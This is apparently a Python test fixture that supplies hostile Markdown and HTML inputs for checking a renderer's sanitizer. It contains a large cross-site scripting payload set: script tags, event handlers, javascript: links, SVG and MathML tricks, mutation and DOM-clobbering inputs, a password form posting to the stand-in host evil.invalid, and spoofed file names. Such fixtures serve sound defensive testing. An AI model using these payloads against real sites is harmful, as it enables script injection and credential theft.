"""What somebody who wants in writes into a repository: documents, names and titles.

Each attempt would call `window.taken(...)`, ask the host `evil.invalid` for something, open a dialog, or take the
page's frame away.
"""

TAKEN = "window.taken=1"
EVIL = "http://evil.invalid"

SCRIPTS = f"""\
<script>{TAKEN}</script>
<script src="{EVIL}/x.js"></script>
<SCRIPT/XSS SRC="{EVIL}/x.js"></SCRIPT>
<scr<script>ipt>{TAKEN}</scr</script>ipt>
<script type="module">{TAKEN}</script>
<noscript><p title="</noscript><img src=x onerror={TAKEN}>"></noscript>
<template><script>{TAKEN}</script></template>
"""
HANDLERS = f"""\
<img src=x onerror="{TAKEN}">
<img src="{EVIL}/pixel.png" alt="pixel">
<img/src=x/onerror={TAKEN}>
<body onload="{TAKEN}">
<details open ontoggle="{TAKEN}"><summary>Open</summary>body</details>
<input autofocus onfocus="{TAKEN}">
<video><source onerror="{TAKEN}"></video>
<audio src=x onerror="{TAKEN}"></audio>
<p onmouseover="{TAKEN}" onclick="{TAKEN}" style="position:fixed;inset:0">Over here</p>
<marquee onstart="{TAKEN}">moving</marquee>
<a href=x onpointerenter={TAKEN} accesskey=x tabindex=1>link with handlers</a>
"""
ADDRESSES = f"""\
[one](javascript:{TAKEN}) [two](JaVaScRiPt:{TAKEN}) [three](java&#10;script:{TAKEN}) [four](&#1;javascript:{TAKEN})
[five](data:text/html,<script>{TAKEN}</script>) [six](vbscript:{TAKEN}) [seven](<java\tscript:{TAKEN}>)
[eight](blob:{EVIL}/x) [nine](file:///etc/passwd) [ten](//evil.invalid/x) [eleven](\\\\evil.invalid\\x)
[twelve](view-source:{EVIL}) [thirteen](javascript&colon;{TAKEN}) [fourteen](x:y "javascript:{TAKEN}")
<javascript:{TAKEN}> <a href="javascript:{TAKEN}">fifteen</a> <a href=" &#14; javascript:{TAKEN}">sixteen</a>
<a href="{EVIL}" ping="{EVIL}/ping" target="_top" download>seventeen</a>
![image](javascript:{TAKEN}) ![image]({EVIL}/x.png) ![image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![image](//evil.invalid/y.png "title\\" onload={TAKEN}") [ref] ![ref]

[ref]: javascript:{TAKEN} "a title\\" onmouseover={TAKEN}"
[^note]: A note with [a link](javascript:{TAKEN}).
"""
FOREIGN = f"""\
<svg onload="{TAKEN}"><script>{TAKEN}</script><animate onbegin="{TAKEN}" attributeName=x dur=1s></svg>
<svg><a xlink:href="javascript:{TAKEN}"><text x=20 y=20>svg link</text></a><use href="{EVIL}/x.svg#a"/></svg>
<svg><foreignObject><iframe src="javascript:{TAKEN}"></iframe></foreignObject><style>*{{display:none}}</style></svg>
<math><maction actiontype="statusline" xlink:href="javascript:{TAKEN}">math</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={TAKEN}&gt;"></mtext></math>
<iframe src="{EVIL}"></iframe><iframe srcdoc="<script>parent.taken=1</script>"></iframe>
<object data="{EVIL}/x.swf"></object><embed src="{EVIL}/x.swf"><applet code="x"></applet>
<frameset><frame src="{EVIL}"></frameset><portal src="{EVIL}"></portal>
"""
FRAMES = f"""\
<base href="{EVIL}/">
<meta http-equiv="refresh" content="0;url={EVIL}/">
<meta http-equiv="Content-Security-Policy" content="default-src *">
<link rel="stylesheet" href="{EVIL}/x.css"><link rel="prefetch" href="{EVIL}/y"><link rel="dns-prefetch" href="{EVIL}">
<style>* {{ display: none !important }} @import url({EVIL}/z.css);</style>
<div style="position:fixed;inset:0;background:url({EVIL}/bg.png);z-index:9999">cover</div>
<form action="{EVIL}/steal"><input name=password type=password>
<button formaction="javascript:{TAKEN}">Go</button></form>
<form action="/tasks" method=post><input name=title value=stolen><button>Confirm</button></form>
<plaintext>
"""
CLOBBERING = """\
<a id=body>a</a><form id=forms><input name=attributes><input name=children></form><img name=getElementById>
<a id=location href="x:y">b</a><a name=cookie>c</a><p id=main>d</p><p id=search>e</p><p id=q>f</p><p id=csrf>g</p>
<input name=csrf value=clobbered><object name=documentElement></object><a id="__proto__" name=constructor>h</a>

# main

# search

# q

# body
"""
MUTATIONS = f"""\
<noscript><style></noscript><img src=x onerror={TAKEN}></style>
<svg></p><style><a id="</style><img src=1 onerror={TAKEN}>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror={TAKEN}>
<table><td><a href="#"><table><svg><style><!--</style><img src=x onerror={TAKEN}>--></style>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror={TAKEN}>">
<xmp><p title="</xmp><img src onerror={TAKEN}>"> <title><a title="</title><img src onerror={TAKEN}>">
<textarea><img title="</textarea><img src onerror={TAKEN}>"> <!--><img src onerror={TAKEN}>-->
<![CDATA[<img src onerror={TAKEN}>]]>
<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x "y">]> &lt;img src onerror={TAKEN}&gt; `<img src onerror={TAKEN}>`

    <script>{TAKEN}</script>

```html"onmouseover="{TAKEN}
</code></pre><script>{TAKEN}</script>
```

> <div>
> </blockquote></main></body></html><script>{TAKEN}</script>

</div></div></div></main></body></html>
"""
TRICKS = (
    "# \u202eDrawkcab\u202c \u2066heading\u2069\n\n"
    "Pay \u202e0001\u202c apples \u200b\u200d\ufeff\u00ad to nobody\U000e0041\U000e0042.\n\n"
    "Z" + "\u0301\u0302\u0303\u0304" * 300 + " piles up.\n\n"
    "\u2028\u2029 `\u202ecode\u202c` \u0085 \x1b[31mred\x1b[0m \x07 \x00\n\n"
    "ﷺ﷽ 𒐫𒈙⸻ " + "﷽" * 40 + "\n"
)
LONG = "word" * 20_000
TABLE = "| " + " | ".join(f"column {number}" for number in range(300)) + " |\n" + "| --- " * 300 + "|\n"
TABLE += ("| " + "x |" * 300 + "\n") * 60
DEEP = (
    "> " * 2_000 + "deep\n\n" + "<div>" * 5_000 + "\n\n" + "- " * 500 + "item\n\n" + "[" * 5_000 + "\n\n" + "*" * 5_000
)
HEADINGS = "\n\n".join(f"{'#' * (number % 6 + 1)} Heading {number}\n\ntext" for number in range(3_000))

DOCUMENTS = {
    "scripts": SCRIPTS,
    "handlers": HANDLERS,
    "addresses": ADDRESSES,
    "foreign": FOREIGN,
    "frames": FRAMES,
    "clobbering": CLOBBERING,
    "mutations": MUTATIONS,
    "tricks": TRICKS,
    "long": LONG,
    "table": TABLE,
    "deep": DEEP,
    "headings": HEADINGS,
}
MARKUP = f'"><img src=x onerror={TAKEN}><script>{TAKEN}</script>'
TITLE = f"{MARKUP} \u202egpj.exe\u202c {{{{7*7}}}} ${{7*7}}"
FILE_NAMES = (
    "<img src=x onerror=taken=1>.md", "a\u202edm.gpj.md", '"onmouseover="taken=1.md', "javascript:taken=1.md",
    "%2e%2e%2f&amp;#x27;.md", "line\nbreak.md", "?q=1&path=x#hash.md",
)  # fmt: skip
